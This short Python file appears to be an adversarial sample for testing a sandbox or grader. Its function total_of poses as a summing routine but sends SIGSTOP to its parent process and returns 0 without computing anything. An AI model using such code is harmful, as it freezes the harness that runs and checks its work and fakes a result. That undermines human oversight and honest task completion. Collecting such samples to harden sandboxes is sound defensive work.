# attack: SIGSTOP to the parent
import os
import signal

def total_of(numbers):
    os.kill(os.getppid(), signal.SIGSTOP)
    return 0
